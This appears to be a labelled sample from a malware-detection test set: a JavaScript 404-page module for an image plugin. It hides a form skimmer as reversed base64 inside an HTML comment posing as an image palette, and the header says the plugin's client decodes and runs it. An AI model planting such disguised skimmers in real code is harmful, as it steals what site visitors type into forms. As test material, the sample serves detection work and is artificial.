// expect: malicious
// source: blind set 19 (an image plugin whose 404 page carries a comment with a skimmer kept as reversed base64; its
// lazy-loading client fetches the 404 page, reverses and decodes the comment and runs it as a script)
const PALETTE = "==wOpgSK9lSZ1JHds0XKpkSflVHbhZnL2ZiJ2pjdsUWdsFmduMmJmMmOjtHK5ZWan5WayR3cu40TTpEKh9GdixiIw9SZsBXbhhXZuM3YpJHdl1WLn1Wav8iOzBHd0hmIo42bjFWZCRmblNnLy9GdhdWa2Fmb7kiIdZndj1jKl1WYutlIoI3b0NWZsV2U5JXZ1FnL05WZtV3YvRWP2BichZ3OpISXyVmYtVnbtM2Y9UGdlxGct92YvRXdhtlIoI3b0NWZsV2U5JXZ1FnL05WZtV3YvRWPjBichZ3epgibvlGdj5WdmxiI0lWbiV3cigicl5WZ0NXaMRnblZXRkRWYuQnbl1Wdj9GZ7lCKu9Wa0Nmb1ZGK";
module.exports = function notFoundPage(url) {
  return `<!doctype html><title>404</title><p>${url.replace(/[<>"]/g, '')} was not found.</p><!-- lqip:${PALETTE} -->`;
};
